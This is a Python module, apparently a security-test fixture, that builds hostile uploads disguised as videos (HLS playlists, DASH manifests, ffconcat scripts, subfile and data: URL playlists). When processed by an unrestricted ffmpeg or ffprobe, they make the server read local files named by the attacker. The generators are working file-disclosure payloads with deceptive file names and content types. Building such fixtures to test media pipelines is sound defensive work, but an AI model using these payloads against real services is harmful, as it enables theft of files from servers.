"""Hostile "videos": text files that ffmpeg, left to probe freely, reads as lists of other files to play.

Each maker takes the files to steal (absolute paths on the worker) and returns the upload's bytes. Uploaded as
`clip.mp4`, an unrestricted ffprobe/ffmpeg would read the named files as the attacker's video.
"""

from __future__ import annotations

import base64
from pathlib import Path


def hls_playlist(targets: list[str]) -> bytes:
    """An HLS media playlist: a target named init* as its EXT-X-MAP init segment, every other one a segment."""
    lines = ["#EXTM3U", "#EXT-X-VERSION:7", "#EXT-X-TARGETDURATION:4", "#EXT-X-PLAYLIST-TYPE:VOD"]
    inits = [target for target in targets if Path(target).name.startswith("init")]
    lines += [f'#EXT-X-MAP:URI="{init}"' for init in inits[:1]]
    for target in targets:
        if target not in inits:
            lines += ["#EXTINF:2.0,", target]
    return ("\n".join(lines + ["#EXT-X-ENDLIST", ""])).encode()


def dash_manifest(targets: list[str]) -> bytes:
    """A static DASH manifest: a target named init* and the rest as its segment list (fMP4 renditions), or
    else one representation per target, the whole file reached through its BaseURL."""
    inits = [target for target in targets if Path(target).name.startswith("init")]
    head = '<Representation id="{}" bandwidth="100000" codecs="avc1.64000d" width="320" height="180">'
    if inits:
        media = "".join(f'<SegmentURL media="{_url(t)}"/>' for t in targets if t not in inits)
        representations = (head.format(0) + f'<SegmentList duration="2" timescale="1"><Initialization '
                           f'sourceURL="{_url(inits[0])}"/>{media}</SegmentList></Representation>')
    else:
        representations = "".join(head.format(i) + f"<BaseURL>{_url(t)}</BaseURL><SegmentBase/></Representation>"
                                  for i, t in enumerate(targets))
    return ('<?xml version="1.0" encoding="utf-8"?>\n'
            '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" '
            'minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-live:2011"><Period>'
            f'<AdaptationSet mimeType="video/mp4">{representations}</AdaptationSet></Period></MPD>\n').encode()


def ffconcat_list(targets: list[str]) -> bytes:
    """An ffconcat script playing every target, by path and by file: URL."""
    lines = ["ffconcat version 1.0"]
    for target in targets:
        lines += [f"file '{target}'", f"file '{_url(target)}'"]
    return ("\n".join(lines) + "\n").encode()


def subfile_playlist(targets: list[str]) -> bytes:
    """An HLS playlist whose segments are `subfile,,start,0,end,0,,:/path`: a byte range of any file."""
    return hls_playlist([f"subfile,,start,0,end,0,,:{target}" for target in targets])


def data_playlist(targets: list[str]) -> bytes:
    """An HLS playlist whose segments are data: URLs (the first bytes of each target) and file: URLs."""
    urls = []
    for target in targets:
        head = Path(target).read_bytes()[:4096] if Path(target).is_file() else b""
        urls += [f"data:video/mp4;base64,{base64.b64encode(head).decode()}", _url(target)]
    return hls_playlist(urls)


HOSTILE = {
    "hls": (hls_playlist, "clip.mp4", "video/mp4"),
    "dash": (dash_manifest, "clip.mov", "video/quicktime"),
    "ffconcat": (ffconcat_list, "clip.mkv", "video/x-matroska"),
    "subfile": (subfile_playlist, "clip.mp4", "video/mp4"),
    "data": (data_playlist, "clip.mov", "video/quicktime"),
}
"""Every hostile kind: its maker, and the video file name and content type it is uploaded under."""


def _url(target: str) -> str:
    return target if ":" in target else f"file://{target}"
